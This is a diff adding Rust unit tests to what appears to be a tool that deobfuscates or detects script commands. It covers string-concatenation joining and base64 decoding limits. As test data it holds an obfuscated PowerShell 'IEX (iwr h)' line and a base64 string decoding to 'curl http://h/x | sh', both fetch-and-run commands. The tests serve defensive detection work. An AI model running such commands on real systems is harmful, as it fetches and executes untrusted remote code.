@@ -491,4 +491,41 @@ mod tests {
         assert_eq!(joined_strings("I`E`X (iw`r h)"), "IEX (iwr h)");
         assert_eq!(joined_strings("a + b"), "a + b");
     }
+
+    #[test]
+    fn an_operator_ending_the_text_joins_nothing() {
+        // A statement cut after its last `+` / `&` (the next piece on a
+        // line not given, or a truncated file): the pieces before it are
+        // joined, nothing is read past the end.
+        assert_eq!(
+            joined_strings("$u = 'http://h/' + 'agent' + "),
+            "$u = 'http://h/agent' + "
+        );
+        assert_eq!(
+            joined_strings("u = \"http://h/\" & \"agent\" &"),
+            "u = \"http://h/agent\" &"
+        );
+    }
+
+    #[test]
+    fn base64_alphabets_and_plausible_text() {
+        // `+` `/` (standard) and `-` `_` (URL-safe) are the same two values.
+        assert!(base64("+/+/+/+/+/+/+/+/").is_some());
+        assert_eq!(base64("+/+/+/+/+/+/+/+/"), base64("-_-_-_-_-_-_-_-_"));
+        assert_eq!(
+            decoded_text("Y3VybCBodHRwOi8vaC94IHwgc2g=").as_deref(),
+            Some("curl http://h/x | sh")
+        );
+        // Digits and dots (a build stamp) decode but are no command text.
+        assert_eq!(decoded_text("MjAyNjExMjktMDAwMS40MjoxNw=="), None);
+    }
+
+    #[test]
+    fn base64_is_decoded_up_to_its_maximum_length() {
+        // Exactly MAX_BASE64 characters ("ABC" over and over) decode.
+        let most = "QUJD".repeat(MAX_BASE64 / 4);
+        assert_eq!(base64(&most).map(|b| b.len()), Some(MAX_BASE64 / 4 * 3));
+        // One group more is past the limit and left alone.
+        assert_eq!(base64(&format!("{most}QUJD")), None);
+    }
 }
